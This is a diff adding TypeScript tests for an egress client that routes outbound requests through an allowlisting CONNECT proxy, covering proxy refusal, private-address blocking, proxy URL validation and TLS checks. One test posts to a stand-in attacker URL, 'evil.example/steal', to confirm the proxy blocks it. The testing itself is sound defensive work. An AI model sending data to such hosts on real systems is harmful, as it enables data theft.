@@ -1,5 +1,10 @@
+import { execFileSync } from 'node:child_process';
+import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
 import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
-import type { AddressInfo, Socket } from 'node:net';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { createServer as createTlsServer } from 'node:tls';
+import { connect as connectNet, createServer as createNetServer, type AddressInfo, type Socket } from 'node:net';
 import {
   createEgressClient,
   EgressBlockedError,
@@ -9,6 +14,7 @@ import {
   EgressUnreachableError,
   type EgressClient,
   type EgressClientOptions,
+  parseEgressProxy,
 } from '../src';
 
 interface StandIn {
@@ -199,3 +205,119 @@ describe('createEgressClient', () => {
     expect((error as EgressUnreachableError).status).toBe(502);
   });
 });
+
+/** An HTTP CONNECT proxy as a platform runs one (Smokescreen, Squid): it records each CONNECT, refuses hosts off its allowlist, and tunnels the others to `upstreamPort` on this machine. */
+async function startConnectProxy(allowed: string[], upstreamPort: () => number) {
+  const connects: string[] = [];
+  const sockets = new Set<Socket>();
+  const server = createNetServer((client) => {
+    sockets.add(client);
+    client.on('close', () => sockets.delete(client));
+    client.once('data', (head: Buffer) => {
+      const target = /^CONNECT (\S+) HTTP\/1\.1\r\n/.exec(head.toString('latin1'))?.[1] ?? '';
+      connects.push(target);
+      if (!allowed.includes(target.replace(/:\d+$/, ''))) return void client.end('HTTP/1.1 403 Forbidden\r\n\r\n');
+      const upstream = connectNet(upstreamPort(), '127.0.0.1', () => {
+        client.write('HTTP/1.1 200 Connection established\r\n\r\n');
+        client.pipe(upstream).pipe(client);
+      });
+      sockets.add(upstream);
+      upstream.on('error', () => client.destroy());
+    });
+  });
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  return {
+    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
+    connects,
+    close: () =>
+      new Promise<void>((resolve) => {
+        sockets.forEach((socket) => socket.destroy());
+        server.close(() => resolve());
+      }),
+  };
+}
+
+describe('createEgressClient through an egress proxy (EGRESS_PROXY_URL)', () => {
+  let standIn: StandIn | undefined;
+  let proxy: Awaited<ReturnType<typeof startConnectProxy>> | undefined;
+  let client: EgressClient | undefined;
+  // The destination's name resolves to a public address (the check passes); only the proxy connects onwards.
+  const viaProxy = (url: string): EgressClientOptions => ({ ...base, resolve: async () => ['93.184.216.34'], proxy: parseEgressProxy(url) });
+  afterEach(async () => {
+    await client?.close();
+    await proxy?.close();
+    await standIn?.close();
+    [client, proxy, standIn] = [undefined, undefined, undefined];
+  });
+
+  it('when a destination is called, then the request goes through one CONNECT naming the destination by host and port, and its answer comes back', async () => {
+    const destination = (standIn = await startStandIn((_req, res) => res.end('paid')));
+    proxy = await startConnectProxy(['api.processor.example'], () => destination.port);
+    client = createEgressClient(viaProxy(proxy.url));
+
+    const response = await client.request({ url: 'http://api.processor.example:8443/v1/payments', method: 'POST', headers: {}, body: '{}' });
+
+    expect({ status: response.status, body: response.body.toString() }).toEqual({ status: 200, body: 'paid' });
+    expect(proxy.connects).toEqual(['api.processor.example:8443']);
+    expect(destination.requests.map((request) => `${request.method} ${request.url} ${request.headers.host}`)).toEqual(['POST /v1/payments api.processor.example:8443']);
+  });
+
+  it('when the proxy refuses the destination, then the request fails as not allowed (proxy_refused) and nothing reaches it', async () => {
+    const destination = (standIn = await startStandIn((_req, res) => res.end('paid')));
+    proxy = await startConnectProxy(['api.processor.example'], () => destination.port);
+    client = createEgressClient(viaProxy(proxy.url));
+
+    const error = await client.request({ url: 'http://evil.example/steal', method: 'POST', headers: {}, body: '{}' }).catch((e: unknown) => e);
+
+    expect(error).toBeInstanceOf(EgressBlockedError);
+    expect((error as EgressBlockedError).reason).toBe('proxy_refused');
+    expect(proxy.connects).toEqual(['evil.example:80']);
+    expect(destination.connections).toBe(0);
+  });
+
+  it('when the destination resolves to a private address, then it is refused before the proxy is asked', async () => {
+    proxy = await startConnectProxy(['internal.example'], () => 1);
+    client = createEgressClient({ ...viaProxy(proxy.url), resolve: async () => ['10.0.0.7'] });
+
+    await expect(client.request({ url: 'http://internal.example/', method: 'GET', headers: {} })).rejects.toMatchObject({ reason: 'private_address' });
+    expect(proxy.connects).toEqual([]);
+  });
+
+  it('when the proxy cannot be reached, then the request fails as unreachable (retryable)', async () => {
+    const closed = await startConnectProxy([], () => 1);
+    await closed.close();
+    client = createEgressClient(viaProxy(closed.url));
+
+    await expect(client.request({ url: 'https://api.processor.example/', method: 'GET', headers: {} })).rejects.toBeInstanceOf(EgressUnreachableError);
+  });
+
+  it('when an egress proxy URL carries credentials, a path or another scheme, then it is refused', () => {
+    expect(parseEgressProxy('http://egress-proxy.egress:4750')).toEqual({ host: 'egress-proxy.egress', port: 4750 });
+    for (const url of ['https://proxy:3128', 'http://user:pw@proxy:3128', 'http://proxy:3128/path']) expect(() => parseEgressProxy(url)).toThrow('an egress proxy is http://host:port');
+  });
+
+  it('when the destination is https, then its TLS handshake runs inside the tunnel, named after the host (SNI), and an untrusted certificate is refused there', async () => {
+    const dir = mkdtempSync(join(tmpdir(), 'vaultline-egress-tls-'));
+    const sni: string[] = [];
+    const tlsServer = createTlsServer({ ...selfSigned(dir, 'api.processor.example'), SNICallback: (name, done) => (sni.push(name), done(null, undefined)) }, (socket) => socket.end());
+    try {
+      await new Promise<void>((resolve) => tlsServer.listen(0, '127.0.0.1', resolve));
+      proxy = await startConnectProxy(['api.processor.example'], () => (tlsServer.address() as AddressInfo).port);
+      client = createEgressClient(viaProxy(proxy.url));
+
+      await expect(client.request({ url: 'https://api.processor.example/v1/payments', method: 'POST', headers: {}, body: '{}' })).rejects.toBeInstanceOf(EgressUnreachableError);
+      expect(proxy.connects).toEqual(['api.processor.example:443']);
+      expect(sni).toEqual(['api.processor.example']);
+    } finally {
+      await new Promise((resolve) => tlsServer.close(resolve));
+      rmSync(dir, { recursive: true, force: true });
+    }
+  });
+});
+
+/** A self-signed certificate for `host` (openssl), which no client trusts. */
+function selfSigned(dir: string, host: string): { key: Buffer; cert: Buffer } {
+  const [key, cert] = [join(dir, 'key.pem'), join(dir, 'cert.pem')];
+  execFileSync('openssl', ['req', '-x509', '-newkey', 'ec', '-pkeyopt', 'ec_paramgen_curve:prime256v1', '-nodes', '-keyout', key, '-out', cert, '-days', '1', '-subj', `/CN=${host}`, '-addext', `subjectAltName=DNS:${host}`], { stdio: 'ignore' });
+  return { key: readFileSync(key), cert: readFileSync(cert) };
+}
